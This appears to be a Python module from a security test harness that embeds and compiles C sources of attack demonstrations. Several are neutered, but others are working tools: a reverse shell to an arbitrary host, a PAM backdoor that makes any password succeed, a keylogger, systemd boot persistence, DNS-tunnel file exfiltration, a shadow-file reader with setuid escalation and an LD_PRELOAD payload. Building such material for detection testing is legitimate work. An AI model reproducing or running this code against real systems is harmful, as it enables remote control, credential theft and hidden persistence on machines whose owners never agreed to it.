"""C sources of the attack demonstrations, compiled with cc at build time.

Each program does, for real, what one attack tool does, against targets that
cannot be harmed: a sleeping process of the builder's own, the sandbox's
overlay copies of system files, a fake keyboard file, a listener on the
sandbox's isolated network. They are compiled into a folder under /tmp, as a
dropped tool would be.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

_HEAD = "#define _GNU_SOURCE\n#include <stdio.h>\n#include <stdlib.h>\n" \
        "#include <string.h>\n#include <unistd.h>\n#include <fcntl.h>\n"

SOURCES: dict[str, str] = {
    # ptrace injection: read the victim's maps, attach, save registers,
    # peek and poke back the same words below its stack pointer, restore
    # the registers, detach. The victim's memory ends as it began.
    "inject_ptrace": _HEAD + r"""
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
int main(int argc, char **argv) {
    pid_t pid = atoi(argv[1]); char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    for (int i = 0; maps && i < 4 && fgets(line, sizeof line, maps); i++) {}
    if (maps) fclose(maps);
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) { perror("attach"); return 1; }
    waitpid(pid, 0, 0);
    struct user_regs_struct regs; ptrace(PTRACE_GETREGS, pid, 0, &regs);
    for (int i = 1; i <= 8; i++) {
        unsigned long at = regs.rsp - 8 * i;
        long word = ptrace(PTRACE_PEEKDATA, pid, (void *)at, 0);
        ptrace(PTRACE_POKEDATA, pid, (void *)at, (void *)word);
    }
    ptrace(PTRACE_SETREGS, pid, 0, &regs);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return 0;
}
""",
    # A set-uid helper abused: read the password hashes, stage /etc/passwd
    # into a pipe with splice (Dirty Pipe's first step, no file written),
    # become root, run a shell.
    "suid_escalate": _HEAD + r"""
int main(void) {
    char buf[4096]; int p[2];
    if (getuid() != geteuid()) puts("setuid");
    int shadow = open("/etc/shadow", O_RDONLY);
    if (shadow >= 0) { read(shadow, buf, sizeof buf); close(shadow); }
    for (int i = 0; i < 3; i++) {
        int passwd = open("/etc/passwd", O_RDONLY); pipe(p);
        loff_t off = 0; splice(passwd, &off, p[1], 0, 1024, 0);
        write(p[1], "x", 1); read(p[0], buf, sizeof buf);
        close(p[0]); close(p[1]); close(passwd);
    }
    setuid(0); setgid(0);
    execl("/bin/sh", "sh", "-c", "id", (char *)0);
    return 1;
}
""",
    # Patching a system library in place: rewrite one byte with itself,
    # sync, restore the old timestamps (timestomping), remove a log.
    "patch_library": _HEAD + r"""
#include <sys/stat.h>
int main(int argc, char **argv) {
    struct stat st; unsigned char byte;
    int fd = open(argv[1], O_RDWR); if (fd < 0) { perror(argv[1]); return 1; }
    fstat(fd, &st);
    for (off_t at = 64; at < 64 + 4 * 4096; at += 4096) {
        pread(fd, &byte, 1, at); pwrite(fd, &byte, 1, at);
    }
    fsync(fd);
    struct timespec times[2] = {st.st_atim, st.st_mtim}; futimens(fd, times);
    close(fd);
    if (argc > 2) unlink(argv[2]);
    return 0;
}
""",
    # DNS tunnelling: a file hex-encoded into query names, one UDP datagram
    # per chunk, each answered by the "resolver".
    "dns_tunnel": _HEAD + r"""
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/time.h>
int main(int argc, char **argv) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct timeval tv = {0, 200000};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    inet_pton(AF_INET, argv[1], &to.sin_addr);
    int fd = open(argv[3], O_RDONLY); unsigned char chunk[24]; ssize_t n;
    char query[128], answer[512];
    while ((n = read(fd, chunk, sizeof chunk)) > 0) {
        int len = 0;
        for (ssize_t i = 0; i < n; i++) len += sprintf(query + len, "%02x", chunk[i]);
        len += sprintf(query + len, ".t.example.com");
        sendto(s, query, len, 0, (struct sockaddr *)&to, sizeof to);
        recvfrom(s, answer, sizeof answer, 0, 0, 0);
    }
    close(fd); close(s);
    return 0;
}
""",
    # A systemd unit and its enablement link: started at every boot.
    "systemd_persist": _HEAD + r"""
#include <sys/stat.h>
int main(void) {
    const char *unit = "/etc/systemd/system/sentinel-update.service";
    const char *text[] = {"[Unit]\nDescription=Update helper\n",
        "[Service]\nExecStart=/tmp/.update\nRestart=always\n",
        "[Install]\nWantedBy=multi-user.target\n"};
    int fd = open(unit, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    for (int i = 0; i < 3; i++) write(fd, text[i], strlen(text[i]));
    close(fd);
    mkdir("/etc/systemd/system/multi-user.target.wants", 0755);
    symlink(unit, "/etc/systemd/system/multi-user.target.wants/"
                  "sentinel-update.service");
    return 0;
}
""",
    # An evdev keylogger: key events in, characters out to a dot file.
    "keylogger": _HEAD + r"""
#include <stdint.h>
struct event { long sec, usec; uint16_t type, code; int32_t value; };
int main(int argc, char **argv) {
    int in = open("/dev/input/event0", O_RDONLY);
    int out = open(argv[1], O_WRONLY | O_CREAT | O_APPEND, 0600);
    struct event ev; const char *keys = "..........qwertyuiop....asdfghjkl.....zxcvbnm";
    while (read(in, &ev, sizeof ev) == sizeof ev) {
        if (ev.type == 1 && ev.value == 1) {
            char c = ev.code < 50 && ev.code >= 6 ? keys[ev.code - 6] : ' ';
            write(out, &c, 1);
        }
    }
    close(in); close(out);
    return 0;
}
""",
    # A miner: pool connection, a JIT page (writable and executable),
    # worker threads hashing, shares sent back.
    "miner": _HEAD + r"""
#include <arpa/inet.h>
#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
static volatile uint64_t best; static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static void *work(void *arg) {
    uint64_t x = (uintptr_t)arg; struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    do {
        for (int i = 0; i < 200000; i++)
            x = x * 6364136223846793005ULL + 1442695040888963407ULL;
        pthread_mutex_lock(&lock); if (x > best) best = x; pthread_mutex_unlock(&lock);
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while ((t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000 < 400);
    return 0;
}
int main(int argc, char **argv) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    inet_pton(AF_INET, argv[1], &to.sin_addr);
    if (connect(s, (struct sockaddr *)&to, sizeof to) < 0) { perror("pool"); return 1; }
    const char *login = "{\"method\":\"login\",\"params\":{\"agent\":\"demo\"}}\n";
    write(s, login, strlen(login)); char job[512]; read(s, job, sizeof job);
    unsigned char *jit = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                              MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    jit[0] = 0xc3; ((void (*)(void))jit)();
    pthread_t workers[3];
    for (int round = 0; round < 2; round++) {
        for (long i = 0; i < 3; i++) pthread_create(&workers[i], 0, work, (void *)i);
        for (int i = 0; i < 3; i++) pthread_join(workers[i], 0);
        char share[128];
        int n = snprintf(share, sizeof share,
                         "{\"method\":\"submit\",\"nonce\":%llu}\n",
                         (unsigned long long)best);
        write(s, share, n);
    }
    close(s);
    return 0;
}
""",
    # A kernel rootkit loader: the module file is read and handed to
    # finit_module, which the kernel refuses (the file is not a module);
    # then the loader signals a process and lists /proc to check what it hid.
    "rootkit_loader": _HEAD + r"""
#include <dirent.h>
#include <signal.h>
#include <sys/syscall.h>
int main(int argc, char **argv) {
    char buf[4096];
    int fd = open(argv[1], O_RDONLY); read(fd, buf, sizeof buf);
    if (syscall(SYS_finit_module, fd, "", 0) < 0) perror("finit_module");
    close(fd);
    for (int i = 0; i < 3; i++) {
        kill(atoi(argv[2]), SIGCONT);
        DIR *proc = opendir("/proc"); while (readdir(proc)) {} closedir(proc);
    }
    return 0;
}
""",
    # The classic reverse shell: connect back, standard streams onto the
    # socket, exec a shell.
    "reverse_shell": _HEAD + r"""
#include <arpa/inet.h>
#include <sys/socket.h>
int main(int argc, char **argv) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    inet_pton(AF_INET, argv[1], &to.sin_addr);
    if (connect(s, (struct sockaddr *)&to, sizeof to) < 0) return 1;
    for (int fd = 0; fd < 3; fd++) dup2(s, fd);
    execl("/bin/sh", "sh", "-i", (char *)0);
    return 1;
}
""",
    # PAM rewritten so any password works: read, write a copy beside it with
    # one line added, sync, rename over the original.
    "pam_backdoor": _HEAD + r"""
int main(void) {
    char buf[8192]; const char *path = "/etc/pam.d/common-auth";
    const char *copy = "/etc/pam.d/.common-auth.new";
    int in = open(path, O_RDONLY); ssize_t n = read(in, buf, sizeof buf); close(in);
    int out = open(copy, O_RDWR | O_CREAT | O_TRUNC, 0644);
    const char *line = "auth sufficient pam_permit.so\n";
    pwrite(out, line, strlen(line), 0);
    if (n > 0) pwrite(out, buf, n, strlen(line));
    fsync(out); close(out);
    rename(copy, path);
    return 0;
}
""",
}

# A preloaded library whose constructor runs code from a page that is both
# writable and executable, as injected payloads do.
PRELOAD_SOURCE = r"""
#include <string.h>
#include <sys/mman.h>
__attribute__((constructor)) static void payload(void) {
    unsigned char *page = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                               MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page == MAP_FAILED) return;
    page[0] = 0xc3; ((void (*)(void))page)();
    munmap(page, 4096);
}
"""


def compile_programs(folder: Path) -> dict[str, Path]:
    """Compiles every demonstration program (and ``preload.so``) into ``folder``.

    Raises:
        RuntimeError: naming the program cc could not build.
    """
    folder.mkdir(parents=True, exist_ok=True)
    built = {}
    jobs = [(name, source, []) for name, source in SOURCES.items()]
    jobs.append(("preload.so", PRELOAD_SOURCE, ["-shared", "-fPIC"]))
    for name, source, flags in jobs:
        source_file = folder / f"{name.split('.')[0]}.c"
        source_file.write_text(source)
        target = folder / name
        result = subprocess.run(["cc", "-O1", "-w", *flags, "-o", str(target),
                                 str(source_file), "-pthread"],
                                capture_output=True, text=True, check=False)
        if result.returncode:
            raise RuntimeError(f"cc could not build {name}: {result.stderr[-600:]}")
        source_file.unlink()
        built[name] = target
    return built
